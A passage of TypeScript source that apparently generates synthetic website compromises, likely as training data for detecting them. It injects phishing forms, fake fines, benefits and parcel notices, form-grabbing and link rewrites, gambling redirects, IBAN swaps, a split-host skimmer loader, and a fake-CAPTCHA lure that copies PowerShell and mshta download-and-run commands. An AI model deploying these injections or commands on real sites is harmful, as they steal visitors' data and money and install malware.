  en: ["listeria contamination", "salmonella contamination", "glass fragments"], fr: ["contamination à la listeria", "contamination aux salmonelles", "présence de fragments de verre"],
  de: ["Listerien-Belastung", "Salmonellen-Belastung", "Glassplitter"], es: ["contaminación por listeria", "contaminación por salmonela", "presencia de fragmentos de vidrio"],
  nl: ["besmetting met listeria", "besmetting met salmonella", "glassplinters"], pt: ["contaminação por listeria", "contaminação por salmonela", "presença de fragmentos de vidro"],
  it: ["contaminazione da listeria", "contaminazione da salmonella", "presenza di frammenti di vetro"]
}

// Sabotage by false product recalls (hoax recall and contamination notices on producers' and shops' sites, which cost the owner sales and trust and which food-safety agencies then have to deny): a recall notice in the organisation's voice.
const hoaxRecall = deface("fresh34-hoax-product-recall-for-contamination-in-owner-voice", (page, rng) => {
  const text = fill(pick(rng, say(page, recall)), { B: brandName(page), lot: `${upper(rng, 2)}${digits(rng, between(rng, 4, 7))}`, d: soon(page, rng), c: pick(rng, say(page, contaminant)) })
  const style = `border:${between(rng, 2, 5)}px solid #c00;background:#fff3f3;padding:${between(rng, 8, 20)}px;font-weight:bold`
  return splices(insert(blockSpot(rng, page), `<div class="${pick(rng, ["recall", "rappel", "notice", "alert"])}" style="${style}">${esc(text)}</div>`))
})

// ———————————————————————————— where the page sends visitors and data ————————————————————————————

const fineText: T<ReadonlyArray<readonly [string, string]>> = {
  en: [["Notice of unpaid penalty: a fine of {a} registered to your vehicle is still unpaid. Pay before {d} to avoid a surcharge of {a2}.", "Pay the fine"], ["Unpaid toll: settle {a} before {d} to avoid legal action.", "Pay now"]],
  fr: [["Avis de contravention impayée : une amende de {a} liée à votre véhicule reste à régler. Payez avant le {d} pour éviter une majoration de {a2}.", "Payer l'amende"], ["Péage impayé : réglez {a} avant le {d} pour éviter des poursuites.", "Régler maintenant"]],
  de: [["Offener Bußgeldbescheid: Ein Bußgeld von {a} zu Ihrem Fahrzeug ist noch unbezahlt. Zahlen Sie bis {d}, um einen Zuschlag von {a2} zu vermeiden.", "Bußgeld bezahlen"], ["Unbezahlte Maut: Begleichen Sie {a} bis {d}, um ein Verfahren zu vermeiden.", "Jetzt zahlen"]],
  es: [["Aviso de multa pendiente: una sanción de {a} asociada a su vehículo sigue sin pagar. Pague antes del {d} para evitar un recargo de {a2}.", "Pagar la multa"], ["Peaje impagado: abone {a} antes del {d} para evitar acciones legales.", "Pagar ahora"]],
  nl: [["Openstaande boete: een boete van {a} op uw voertuig is nog niet betaald. Betaal vóór {d} om een verhoging van {a2} te voorkomen.", "Boete betalen"], ["Onbetaalde tol: betaal {a} vóór {d} om juridische stappen te voorkomen.", "Nu betalen"]],
  pt: [["Aviso de multa pendente: uma multa de {a} vinculada ao seu veículo ainda não foi paga. Pague até {d} para evitar acréscimo de {a2}.", "Pagar a multa"], ["Pedágio em aberto: quite {a} até {d} para evitar cobrança judicial.", "Pagar agora"]],
  it: [["Avviso di sanzione non pagata: una multa di {a} relativa al suo veicolo risulta non saldata. Paghi entro il {d} per evitare una maggiorazione di {a2}.", "Paga la multa"], ["Pedaggio non pagato: salda {a} entro il {d} per evitare azioni legali.", "Paga ora"]]
}
/** Host stems that imitate the country's fine, toll and traffic agencies. */
const fineStems: Readonly<Record<string, ReadonlyArray<string>>> = {
  uk: ["gov-fines", "pcn-pay", "dvla-penalty"], us: ["ezpass-toll", "toll-services", "dmv-fines"], au: ["linkt-toll", "revenue-fines", "myetoll"], in: ["echallan", "parivahan-fine"],
  fr: ["antai", "amendes", "paiement-amende", "ulys-peage"], de: ["bussgeld", "kba-zahlung", "maut-bezahlen"], es: ["dgt-multas", "sede-dgt", "multas"],
  nl: ["cjib-betaling", "cjib", "boete-betalen"], br: ["detran-multas", "multas", "senatran"], it: ["multe-pagopa", "pagopa-multe", "polizia-multe"]
}

// Fake-fine smishing landing on hacked public sites (the ANTAI, DGT, CJIB, Detran and toll-fee scams that CERTs and police warn about every year, a hacked municipal page lending them credibility): a notice of an unpaid fine with a pay button to an official-looking host.
const unpaidFine = deface("fresh34-unpaid-fine-notice-with-pay-button-to-official-looking-host", (page, rng) => {
  const a = pick(rng, [35, 45, 68, 90, 135, 4.5, 6.99, 12.5])
  const c = citizen(rng, page)
  const [text, btn] = pick(rng, fineText[c.lang])
  const body = fill(text, { a: money(page, a), a2: money(page, a * pick(rng, [2, 3, 2.5])), d: later(rng, c.date, 1, 5) })
  const url = `https://${officialLike(rng, fineStems[page.site.locale.country] ?? fineStems.uk!)}/${pick(rng, ["pay", "paiement", "pagar", "zahlung", "betalen", "pagamento", "avis"])}?${pick(rng, ["ref", "id", "dossier", "n"])}=${upper(rng, 2)}${digits(rng, between(rng, 6, 10))}`
  const html = `<div class="${pick(rng, ["notice", "avis", "alert alert-danger", "info-box"])}" style="border-left:${between(rng, 4, 8)}px solid ${pick(rng, ["#c00", "#003189", "#e30613"])};padding:${between(rng, 10, 20)}px"><p>${esc(body)}</p><p><a class="${pick(rng, ["button", "btn btn-primary", "cta"])}" href="${esc(url)}">${esc(btn)}</a></p></div>`
  return splices(insert(blockSpot(rng, page), html))
})

const taxIdLabel: Readonly<Record<string, string>> = {
  us: "Social Security number", uk: "National Insurance number", fr: "Numéro fiscal", de: "Steuer-ID", es: "DNI / NIE", nl: "BSN", au: "Tax file number", in: "PAN", br: "CPF", it: "Codice fiscale"
}
const refundWords: T<readonly [ReadonlyArray<string>, string, string, string, string, string]> = {
  en: [["Tax refund: you are entitled to {a}", "HMRC / IRS notice: a refund of {a} is waiting for you"], "Full name", "Bank account (IBAN) or card number", "Expiry (MM/YY)", "Security code", "Claim my refund"],
  fr: [["Remboursement d'impôt : vous avez droit à {a}", "Avis de la DGFiP : un remboursement de {a} vous attend"], "Nom et prénom", "IBAN ou numéro de carte", "Expiration (MM/AA)", "Cryptogramme", "Recevoir mon remboursement"],
  de: [["Steuererstattung: Ihnen stehen {a} zu", "Mitteilung des Finanzamts: Eine Erstattung von {a} wartet auf Sie"], "Vor- und Nachname", "IBAN oder Kartennummer", "Gültig bis (MM/JJ)", "Prüfnummer", "Erstattung anfordern"],
  es: [["Devolución de impuestos: le corresponden {a}", "Agencia Tributaria: tiene una devolución pendiente de {a}"], "Nombre completo", "IBAN o número de tarjeta", "Caducidad (MM/AA)", "CVV", "Solicitar devolución"],
  nl: [["Belastingteruggave: u heeft recht op {a}", "Belastingdienst: er staat een teruggave van {a} voor u klaar"], "Volledige naam", "IBAN of kaartnummer", "Vervaldatum (MM/JJ)", "CVC", "Teruggave aanvragen"],
  pt: [["Restituição de imposto: você tem direito a {a}", "Receita Federal: restituição de {a} disponível"], "Nome completo", "Conta bancária ou número do cartão", "Validade (MM/AA)", "CVV", "Receber restituição"],
  it: [["Rimborso fiscale: ha diritto a {a}", "Agenzia delle Entrate: un rimborso di {a} è a sua disposizione"], "Nome e cognome", "IBAN o numero di carta", "Scadenza (MM/AA)", "CVV", "Ricevi il rimborso"]
}

// Tax-refund phishing (the yearly "you are entitled to a refund" campaigns impersonating tax offices, collecting identity numbers and card details through forms hosted on hacked sites): a refund claim form asking for the national identity or tax number and card or bank details, posting to another host.
const taxRefundForm = deface("fresh34-tax-refund-claim-form-asking-identity-number-and-card", (page, rng) => {
  const [heads, nameL, cardL, expL, cvcL, btn] = refundWords[citizen(rng, page).lang]
  const head2 = fill(pick(rng, heads), { a: money(page, between(rng, 90, 980) + pick(rng, [0, 0.4, 0.8])) })
  const idL = taxIdLabel[page.site.locale.country] ?? "Tax ID"
  const action = `https://${pick(rng, [randomDomain(rng), libLookalike(rng), officialLike(rng, ["impots", "finanzamt", "hacienda", "belasting", "receita", "entrate", "tax", "refund"])])}${pick(rng, ["/refund.php", "/r/submit", "/gate.php", `/${alnum(rng, 6)}/post.php`, "/api/claim"])}`
  const form = `<form class="${pick(rng, ["refund-form", "claim", "form"])}" action="${esc(action)}" method="post"><h3>${esc(head2)}</h3><input name="name" placeholder="${esc(nameL)}"><input name="${pick(rng, ["taxid", "nid", "ssn", "cf"])}" placeholder="${esc(idL)}"><input name="${pick(rng, ["acct", "card", "cc"])}" placeholder="${esc(cardL)}"><input name="exp" placeholder="${esc(expL)}"><input name="cvv" placeholder="${esc(cvcL)}"><button type="submit">${esc(btn)}</button></form>`
  return splices(insert(blockSpot(rng, page), form))
})

const carriers: Readonly<Record<string, ReadonlyArray<string>>> = {
  us: ["usps", "ups", "fedex"], uk: ["royalmail", "evri", "dpd"], fr: ["colissimo", "chronopost", "laposte"], de: ["dhl", "dpd", "hermes"], es: ["correos", "seur", "mrw"],
  nl: ["postnl", "dhl", "dpd"], au: ["auspost", "startrack"], in: ["indiapost", "bluedart"], br: ["correios", "jadlog"], it: ["poste", "brt", "sda"]
}
const parcelText: T<ReadonlyArray<readonly [string, string]>> = {
  en: [["Your parcel {t} is held at our depot: the address is incomplete. Pay the redelivery fee of {a} within 24 hours.", "Reschedule delivery"]],
  fr: [["Votre colis {t} est en attente : l'adresse est incomplète. Réglez les frais de réexpédition de {a} sous 24 heures.", "Reprogrammer la livraison"]],
  de: [["Ihr Paket {t} liegt im Depot: Die Adresse ist unvollständig. Zahlen Sie die Zustellgebühr von {a} innerhalb von 24 Stunden.", "Zustellung planen"]],
  es: [["Su paquete {t} está retenido: la dirección está incompleta. Pague la tasa de reenvío de {a} en 24 horas.", "Programar entrega"]],
  nl: [["Uw pakket {t} ligt in ons depot: het adres is onvolledig. Betaal de herbezorgkosten van {a} binnen 24 uur.", "Bezorging inplannen"]],
  pt: [["Sua encomenda {t} está retida: taxa de importação pendente de {a}. Pague em até 24 horas para evitar a devolução.", "Pagar taxa"]],
  it: [["Il suo pacco {t} è in giacenza: l'indirizzo è incompleto. Paghi le spese di riconsegna di {a} entro 24 ore.", "Programma la consegna"]]
}

// Parcel-fee smishing (redelivery and customs fees of one or two euros on fake carrier pages, the commonest consumer scam in many national CERT reports, often landing on or linked from hacked sites): a held-parcel notice with a link to a carrier look-alike.
const parcelFee = deface("fresh34-held-parcel-fee-notice-linking-to-carrier-lookalike", (page, rng) => {
  const c = pick(rng, carriers[page.site.locale.country] ?? ["dhl", "ups"])
  const [text, btn] = pick(rng, parcelText[citizen(rng, page).lang])
  const body = fill(text, { t: `${upper(rng, 2)}${digits(rng, 9)}${upper(rng, 2)}`, a: money(page, pick(rng, [1.99, 2.99, 1.45, 3.2, 0.99])) })
  const host = `${c}${pick(rng, ["-", "."])}${pick(rng, ["track", "delivery", "redelivery", "suivi", "sendung", "envio", "pakket", "rastreio", "consegna", "parcel"])}${chance(rng, 0.3) ? digits(rng, 2) : ""}.${scamTld(rng)}`
  const url = `https://${host}/${pick(rng, ["", "pay", "track", "i"])}${chance(rng, 0.5) ? `?id=${alnum(rng, 8)}` : ""}`
  const popup = chance(rng, 0.5)
  const style = popup ? `position:fixed;${pick(rng, ["bottom", "top"])}:${between(rng, 10, 40)}px;${pick(rng, ["right", "left"])}:${between(rng, 10, 40)}px;max-width:${between(rng, 280, 420)}px;z-index:${between(rng, 1000, 99999)};background:#fff;border:1px solid #ccc;padding:14px;box-shadow:0 2px 12px rgba(0,0,0,.3)` : `border:1px solid #fc0;background:#fffbe6;padding:12px`
  return splices(insert(popup ? pick(rng, [top(page), bottom(page)]) : blockSpot(rng, page), `<div class="${pick(rng, ["parcel", "notice", "tracking"])}" style="${style}"><p>${esc(body)}</p><a href="${esc(url)}">${esc(btn)}</a></div>`))
})

// Link diversion (an intruder rewriting a site's own menu and service links to the same paths on a look-alike host, where the copied site asks for logins and payments), recalled from phishing-kit write-ups: many of the page's own links pointed at a look-alike of its domain.
const ownLinksRerouted = deface("fresh34-own-site-links-rewritten-to-same-paths-on-lookalike-host", (page, rng) => {
  const host = chance(rng, 0.4) ? `www.${brandLookalike(rng, page.site.brand)}` : brandLookalike(rng, page.site.brand)
  const own = anchors(page, (h) => h !== "" && !/^(#|javascript:|mailto:|tel:|data:)/i.test(h) && isOwn(page, h)).filter((e) => e.shown)
  if (own.length === 0) return splices(insert(top(page), `<p><a href="https://${host}/${pick(rng, ["login", "account", "mon-compte", "konto", "cuenta", "area-riservata"])}">${esc(brandName(page))}</a></p>`))
  const chosen = chance(rng, 0.5) ? own.slice(0, 200) : sample(rng, own, Math.max(1, Math.round(own.length * (0.3 + 0.5 * rng()))))
  return splices(...chosen.map((a) => {
    const u = resolve(page, a.attribs.href ?? "")!
    return setAttr(page, a, "href", `https://${host}${u.pathname}${u.search}${u.hash}`)
  }))
})

// Form grabbing by rewriting the target of a site's existing forms (newsletter, contact, search, login) to a collector elsewhere, so whatever visitors type leaves the site while the page looks unchanged: every shown form posting to another host.
const formsRedirected = deface("fresh34-every-existing-form-posting-to-collector-on-other-host", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])
  const path = pick(rng, ["/collect.php", "/submit", "/api/form", "/f.php", `/${alnum(rng, 5)}/in.php`, "/wp-json/contact/v1/send"])
  const fs = forms(page)
  if (fs.length === 0) return splices(insert(slotAt(page.spots, "bottom"), `<form action="https://${host}${path}" method="post"><input type="email" name="email" placeholder="${esc(page.site.words.yourEmail)}"><button type="submit">${esc(page.site.words.subscribe)}</button></form>`))
  const out: Array<Splice> = []
  for (const f of fs) {
    out.push(setAttr(page, f, "action", `https://${host}${path}`))
    if ((f.attribs.method ?? "get").toLowerCase() !== "post" && chance(rng, 0.6)) out.push(setAttr(page, f, "method", "post"))
  }
  return { splices: out }
})

// Timed redirects to gambling sites (a meta refresh added to a template's head, often with a delay so that the page shows first), a staple of the betting-spam compromises of public sites: one meta refresh in the head.
const metaRefreshBetting = deface("fresh34-meta-refresh-in-head-to-betting-site-after-delay", (page, rng) => {
  const url = `https://${gambleHost(rng)}/${pick(rng, ["", "daftar", "register", "?ref=" + alnum(rng, 6), "promo"])}`
  const n = pick(rng, [0, 0, 1, 3, 5, 8, 15])
  return splices(insert(pick(rng, [head(page), headStart(page)]), `<meta http-equiv="${pick(rng, ["refresh", "Refresh"])}" content="${n}; url=${esc(url)}">`))
})

// Full-window frames of betting and casino sites (the hacked page's address stays in the bar while the whole window shows the gambling site), seen on government and school sites in gambling-spam waves: one fixed iframe covering the window.
const casinoFrame = deface("fresh34-fixed-iframe-covering-window-with-casino-site", (page, rng) => {
  const url = `https://${gambleHost(rng)}/${pick(rng, ["", "m/", "?aff=" + alnum(rng, 5)])}`
  const z = pick(rng, ["9999", "999999", "2147483647"])
  const frame = `<iframe src="${esc(url)}" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:${z};background:#fff"${chance(rng, 0.5) ? ` frameborder="0"` : ""}></iframe>`
  const lock = chance(rng, 0.5) ? `<style>html,body{overflow:hidden!important}</style>` : ""
  return splices(insert(pick(rng, [top(page), bottom(page)]), lock + frame))
})

const clickFixText: T<readonly [string, string, string, string, string]> = {
  en: ["Verify you are human", "Press Windows + R", "Press Ctrl + V", "Press Enter", "I'm not a robot"],
  fr: ["Vérifiez que vous êtes humain", "Appuyez sur Windows + R", "Appuyez sur Ctrl + V", "Appuyez sur Entrée", "Je ne suis pas un robot"],
  de: ["Bestätigen Sie, dass Sie ein Mensch sind", "Drücken Sie Windows + R", "Drücken Sie Strg + V", "Drücken Sie die Eingabetaste", "Ich bin kein Roboter"],
  es: ["Verifique que es humano", "Pulse Windows + R", "Pulse Ctrl + V", "Pulse Intro", "No soy un robot"],
  nl: ["Bevestig dat u een mens bent", "Druk op Windows + R", "Druk op Ctrl + V", "Druk op Enter", "Ik ben geen robot"],
  pt: ["Confirme que você é humano", "Pressione Windows + R", "Pressione Ctrl + V", "Pressione Enter", "Não sou um robô"],
  it: ["Verifica di essere umano", "Premi Windows + R", "Premi Ctrl + V", "Premi Invio", "Non sono un robot"]
}

// ClickFix / fake CAPTCHA lures (2024 onwards on compromised sites: a "verify you are human" box that puts a PowerShell or mshta command on the clipboard and tells the visitor to paste it into the Run dialog): an overlay with the steps and the clipboard script.
const pasteCommandLure = deface("fresh34-fake-captcha-overlay-copying-command-for-run-dialog", (page, rng) => {
  const [h, s1, s2, s3, btn] = siteOr(rng, page, clickFixText)
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const cmd = pick(rng, [
    `powershell -w hidden -c "iwr https://${host}/${alnum(rng, 6)} | iex"`,
    `mshta https://${host}/${alnum(rng, 5)}.hta`,
    `cmd /c curl -s https://${host}/${alnum(rng, 4)}.ps1 | powershell -`,
    `powershell -nop -ep bypass -c "irm ${host}/v | iex"`
  ])
  const id = `c${alnum(rng, 5)}`
  const js = `document.getElementById("${id}").onclick=function(){navigator.clipboard.writeText(${JSON.stringify(`${cmd} # ${pick(rng, ["I am not a robot", "reCAPTCHA Verification ID", "Cloudflare check"])}: ${digits(rng, 6)}`).replace(/</g, "\\u003c")});document.getElementById("${id}s").style.display="block"}`
  const box = `<div style="position:fixed;inset:0;background:rgba(0,0,0,.${between(rng, 4, 8)});z-index:${pick(rng, ["99999", "2147483647"])};display:flex;align-items:center;justify-content:center"><div style="background:#fff;padding:24px;max-width:420px;font-family:Arial,sans-serif"><h3>${esc(h)}</h3><button id="${id}" type="button">${esc(btn)}</button><ol id="${id}s" style="display:none"><li>${esc(s1)}</li><li>${esc(s2)}</li><li>${esc(s3)}</li></ol></div></div>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), `${box}<script>${js}</script>`))
})

// Conditional skimmer loaders (an inline snippet that loads the real skimmer from another host only on checkout, donation or payment pages, the host name split into pieces so a grep does not find it), from Sansec and Malwarebytes Magecart write-ups: the loader inline, or its script tag.
const skimmerLoader = deface("fresh34-conditional-skimmer-loader-from-split-host-name", (page, rng) => {
  const host = pick(rng, [libLookalike(rng), brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const path = scriptPath(rng)
  if (chance(rng, 0.3)) return splices(insert(pick(rng, [head(page), bottom(page)]), `<script src="https://${host}${path}"${chance(rng, 0.5) ? " async" : ""}></script>`))
  const parts = host.split(".").map((p) => JSON.stringify(p)).join(",")
  const v = pick(rng, ["_0x" + hex(rng, 4), "s", "e", "l", "n" + digits(rng, 2)])
  const cond = pick(rng, ["checkout|cart|pay|donat|kasse|panier|carrito|winkelwagen|carrinho|carrello", "onestep|checkout|payment|zahlung|paiement|pago|betaling|pagamento"])
  const js = `(function(){if(!/${cond}/i.test(location.href))return;var ${v}=document.createElement("script");${v}.src="https://"+[${parts}].join(".")+${JSON.stringify(path)};${v}.async=true;document.${pick(rng, ["head", "body"])}.appendChild(${v})})()`
  return splices(insert(pick(rng, [head(page), headStart(page), bottom(page), anySlot(rng, page.spots)]), `<script>${js}</script>`))
})

const disasters: T<ReadonlyArray<string>> = {
  en: ["Floods in {r}: {B} is collecting donations for the families who lost everything.", "Wildfires in {r}: help the victims today. {B} passes on every donation."],
  fr: ["Inondations ({r}) : {B} collecte des dons pour les familles sinistrées.", "Séisme ({r}) : {B} se mobilise pour les victimes. Chaque euro compte."],
  de: ["Hochwasser ({r}): {B} sammelt Spenden für die betroffenen Familien.", "Erdbebenhilfe ({r}): {B} leitet jede Spende direkt an die Opfer weiter."],
  es: ["Inundaciones ({r}): {B} recoge donativos para las familias afectadas.", "Terremoto ({r}): {B} se moviliza por las víctimas. Cada euro cuenta."],
  nl: ["Overstromingen ({r}): {B} zamelt geld in voor de getroffen gezinnen.", "Aardbeving ({r}): {B} helpt de slachtoffers. Elke euro telt."],
  pt: ["Enchentes ({r}): {B} arrecada doações para as famílias atingidas.", "Tragédia ({r}): ajude as vítimas hoje. {B} repassa cada doação."],
  it: ["Alluvione ({r}): {B} raccoglie donazioni per le famiglie colpite.", "Terremoto ({r}): {B} si mobilita per le vittime. Ogni euro conta."]
}
/** Regions of the site's country hit by such disasters in recent years. */
const regions: Readonly<Record<string, ReadonlyArray<string>>> = {
  uk: ["Yorkshire", "Cumbria"], us: ["Maui", "North Carolina"], au: ["New South Wales", "Queensland"], in: ["Kerala", "Assam"], fr: ["Pas-de-Calais", "Alpes-Maritimes", "Gard"],
  de: ["Ahrtal", "Bayern", "Sachsen"], es: ["Valencia", "Murcia", "Andalucía"], nl: ["Limburg", "Zeeland"], br: ["Rio Grande do Sul", "Recife", "Petrópolis"], it: ["Emilia-Romagna", "Marche", "Toscana"]
}
const donateBtn: T<string> = { en: "Donate now", fr: "Faire un don", de: "Jetzt spenden", es: "Donar ahora", nl: "Doneer nu", pt: "Doe agora", it: "Dona ora" }

// Fake donation appeals after disasters (floods, earthquakes, wildfires; national CERTs and charity regulators warn within days of each one, and hacked sites of real associations lend such appeals credibility): an appeal in the organisation's name with a donate button to another host, sometimes a crypto address.
const disasterAppeal = deface("fresh34-disaster-donation-appeal-in-owner-name-to-other-host", (page, rng) => {
  const l = citizen(rng, page).lang
  const text = fill(pick(rng, disasters[l]), { r: pick(rng, regions[page.site.locale.country] ?? regions.uk!), B: brandName(page) })
  const host = pick(rng, [`${pick(rng, ["help", "aid", "relief", "hilfe", "aide", "ayuda", "ajuda", "aiuto", "hulp"])}-${pick(rng, ["victims", "now", "fund", "direct", bare(page)])}.${scamTld(rng)}`, brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const url = `https://${host}/${pick(rng, ["donate", "don", "spenden", "donar", "doar", "dona", "doneer"])}`
  const w = chance(rng, 0.35) ? makeWallet(rng, pick(rng, ["BTC", "USDT (TRC20)", "ETH"] as const)) : null
  const crypto = w === null ? "" : `<p>${esc(w.coin)}: <code>${w.address}</code></p>`
  const html = `<div class="${pick(rng, ["appeal", "donation", "campaign", "notice"])}" style="background:${pick(rng, ["#fff4e5", "#eef6ff", "#fdecea"])};padding:${between(rng, 10, 24)}px"><p><strong>${esc(text)}</strong></p><p><a class="${pick(rng, ["button", "btn", "cta"])}" href="${esc(url)}">${esc(donateBtn[l])}</a></p>${crypto}</div>`
  return splices(insert(blockSpot(rng, page), html))
})

const benefitText: T<ReadonlyArray<string>> = {
  en: ["New {p}: every household can receive {a}. Check your eligibility and apply before {d}.", "{p} of {a} — your application is pre-approved. Confirm your details before {d}."],
  fr: ["Nouveau {p} : chaque foyer peut recevoir {a}. Vérifiez votre éligibilité et faites votre demande avant le {d}.", "{p} de {a} : votre dossier est pré-validé. Confirmez vos informations avant le {d}."],
  de: ["Neu: {p} – jeder Haushalt kann {a} erhalten. Prüfen Sie Ihre Berechtigung und beantragen Sie bis {d}.", "{p} in Höhe von {a}: Ihr Antrag ist vorab genehmigt. Bestätigen Sie Ihre Daten bis {d}."],
  es: ["Nuevo {p}: cada hogar puede recibir {a}. Compruebe si cumple los requisitos y solicítelo antes del {d}.", "{p} de {a}: su solicitud está preaprobada. Confirme sus datos antes del {d}."],
  nl: ["Nieuw: {p} – elk huishouden kan {a} ontvangen. Controleer of u in aanmerking komt en vraag aan vóór {d}.", "{p} van {a}: uw aanvraag is voorlopig goedgekeurd. Bevestig uw gegevens vóór {d}."],
  pt: ["Novo {p}: cada família pode receber {a}. Consulte se tem direito e solicite até {d}.", "{p} de {a}: seu cadastro foi pré-aprovado. Confirme seus dados até {d}."],
  it: ["Nuovo {p}: ogni famiglia può ricevere {a}. Verifica i requisiti e fai domanda entro il {d}.", "{p} da {a}: la tua domanda è pre-approvata. Conferma i tuoi dati entro il {d}."]
}
/** The country's real benefit names, which the scams borrow, and host stems imitating its agencies. */
const benefits: Readonly<Record<string, ReadonlyArray<string>>> = {
  uk: ["Cost of Living Payment", "Winter Fuel Payment"], us: ["stimulus check", "energy rebate"], au: ["Energy Bill Relief", "Cost of Living payment"], in: ["PM Kisan instalment", "LPG subsidy"],
  fr: ["chèque énergie", "prime de rentrée", "aide au pouvoir d'achat"], de: ["Energiepreispauschale", "Heizkostenzuschuss", "Klimageld"], es: ["bono social térmico", "cheque de ayuda", "bono alquiler joven"],
  nl: ["energietoeslag", "koopkrachttegemoetkoming"], br: ["Auxílio Gás", "Bolsa Família extra", "auxílio emergencial"], it: ["bonus sociale bollette", "bonus 200 euro", "carta dedicata a te"]
}
const benefitStems: Readonly<Record<string, ReadonlyArray<string>>> = {
  uk: ["gov-benefits", "gov-support", "dwp-payment"], us: ["irs-rebate", "benefits-gov"], au: ["mygov-relief", "centrelink-pay"], in: ["pmkisan-kyc", "subsidy-gov"],
  fr: ["caf-aides", "aides-gouv", "cheque-energie"], de: ["bund-hilfe", "entlastung", "energiepauschale"], es: ["ayudas-gob", "seg-social", "bono-social"],
  nl: ["toeslagen", "energietoeslag", "digid-toeslag"], br: ["gov-beneficios", "caixa-auxilio", "auxilio"], it: ["inps-bonus", "bonus-gov", "inps-servizi"]
}
const checkBtn: T<string> = { en: "Check eligibility", fr: "Vérifier mon éligibilité", de: "Anspruch prüfen", es: "Comprobar requisitos", nl: "Controleer uw recht", pt: "Consultar agora", it: "Verifica i requisiti" }

// Fake government benefits (energy cheques, cost-of-living payments, "Auxílio" and "bonus" scams spread through hacked public and association pages, collecting identity and bank data): a benefit announcement with a button to an official-looking host.
const benefitClaim = deface("fresh34-fake-government-benefit-announcement-linking-to-claim-site", (page, rng) => {
  const c = citizen(rng, page)
  const text = fill(pick(rng, benefitText[c.lang]), { p: pick(rng, benefits[page.site.locale.country] ?? benefits.uk!), a: money(page, pick(rng, [100, 150, 200, 300, 450, 600])), d: later(rng, c.date, 2, 14) })
  const url = `https://${officialLike(rng, benefitStems[page.site.locale.country] ?? benefitStems.uk!)}/${pick(rng, ["", "demande", "antrag", "solicitud", "aanvraag", "cadastro", "domanda", "apply"])}`
  const html = `<p class="${pick(rng, ["announcement", "notice", "highlight", "news-flash"])}"><strong>${esc(text)}</strong> <a href="${esc(url)}">${esc(checkBtn[c.lang])}</a></p>`
  return splices(insert(blockSpot(rng, page), html))
})

// ———————————————————————————— identifiers visitors copy or trust ————————————————————————————

const foreignIban = (rng: Rng): string => {
  const [cc, bban] = pick(rng, [
    ["LT", () => digits(rng, 16)], ["EE", () => digits(rng, 16)], ["IE", () => pick(rng, ["AIBK", "BOFI", "REVO"]) + digits(rng, 14)],
    ["MT", () => "MALT" + digits(rng, 5) + digits(rng, 18)], ["LU", () => digits(rng, 16)], ["BE", () => digits(rng, 12)], ["CY", () => digits(rng, 8) + digits(rng, 16)], ["BG", () => "STSA" + digits(rng, 14)]
  ] as const)
  return iban(cc, bban())
}
const bankNotice: T<ReadonlyArray<string>> = {
  en: ["Important: our bank details have changed. The old account is closed and payments to it will be returned. Please pay only to {A} (beneficiary: {P})."],
  fr: ["Important : nos coordonnées bancaires ont changé. L'ancien compte est clôturé et les virements y seront rejetés. Merci de payer uniquement sur {A} (bénéficiaire : {P})."],
  de: ["Wichtig: Unsere Bankverbindung hat sich geändert. Das alte Konto ist geschlossen, Zahlungen dorthin gehen zurück. Bitte überweisen Sie nur noch auf {A} (Empfänger: {P})."],
  es: ["Importante: nuestros datos bancarios han cambiado. La cuenta anterior está cerrada y las transferencias serán devueltas. Pague únicamente en {A} (beneficiario: {P})."],
  nl: ["Belangrijk: onze bankgegevens zijn gewijzigd. De oude rekening is opgeheven en betalingen worden teruggestort. Betaal alleen nog op {A} (t.n.v. {P})."],
  pt: ["Importante: nossos dados bancários mudaram. A conta antiga foi encerrada e os depósitos serão devolvidos. Pague somente em {A} (favorecido: {P})."],
  it: ["Importante: le nostre coordinate bancarie sono cambiate. Il vecchio conto è chiuso e i bonifici verranno respinti. Pagate solo su {A} (beneficiario: {P})."]
}

// Payment diversion with a cover story (the "our bank details have changed" notice that fraud centres describe in invoice and rent scams, a foreign neobank account in a private person's or another firm's name): the bank line replaced everywhere by a foreign IBAN, with the notice.
const bankChangedAbroad = deface("fresh34-bank-details-changed-notice-to-foreign-iban-in-person-name", (page, rng) => {
  const raw = foreignIban(rng)
  const A = chance(rng, 0.7) ? groupIban(raw) : raw
  const P = chance(rng, 0.7) ? personName(rng, page) : `${brandName(page)} ${pick(rng, ["Services", "Payments", "Ltd", "Group"])}`
  const notice = `<strong>${esc(fill(pick(rng, bankNotice[citizen(rng, page).lang]), { A: `IBAN ${A}`, P }))}</strong>`
  const b = page.ids.bank
  const out: Array<Splice> = []
  if (b !== null) out.push(...everywhere(page, [[b.kind === "iban" ? `IBAN ${b.value}` : b.value, `IBAN ${A}`], [b.value, A]]))
  out.push(chance(rng, 0.6) ? lineBeside(page, contactNeedles(page), notice, slotAt(page.spots, "top")) : insert(blockSpot(rng, page), `<p class="${pick(rng, ["notice", "important", "alert"])}">${notice}</p>`))
  return { splices: out }
})

/** Another account at the same bank: the bank part kept, the account digits new, the check digits right. */
const sameBankIban = (rng: Rng, value: string): string => {
  const flat = value.replace(/\s+/g, "")
  const cc = flat.slice(0, 2)
  const bban = flat.slice(4)
  const keep = Math.min(10, Math.floor(bban.length / 2))
  for (;;) {
    const next = iban(cc, bban.slice(0, keep) + digits(rng, bban.length - keep))
    if (next !== flat) return /\s/.test(value) ? groupIban(next) : next
  }
}
const newAccountDigits = (rng: Rng, value: string): string => {
  const runs = [...value.matchAll(/\d+/g)]
  const target = [...runs].reverse().find((m) => m[0].length >= 4) ?? runs[runs.length - 1]
  if (target === undefined) return value + digits(rng, 2)
  let d = digits(rng, target[0].length)
  while (d === target[0]) d = digits(rng, target[0].length)
  return value.slice(0, target.index) + d + value.slice(target.index! + target[0].length)
}

// Quiet payment diversion (the account number edited on the page and nothing else, the bank and its code kept so the change passes a glance; recalled from business-e-mail-compromise and rent-fraud cases where the site itself was edited): the bank line's account part replaced everywhere, no notice.
const accountDigitsChanged = deface("fresh34-account-number-quietly-changed-at-same-bank", (page, rng) => {
  const b = page.ids.bank
  if (b !== null) {
    const next = b.kind === "iban" ? sameBankIban(rng, b.value) : newAccountDigits(rng, b.value)
    const out = everywhere(page, [[b.value, next]])
    if (out.length > 0) return { splices: out }
  }
  const loc = page.site.locale
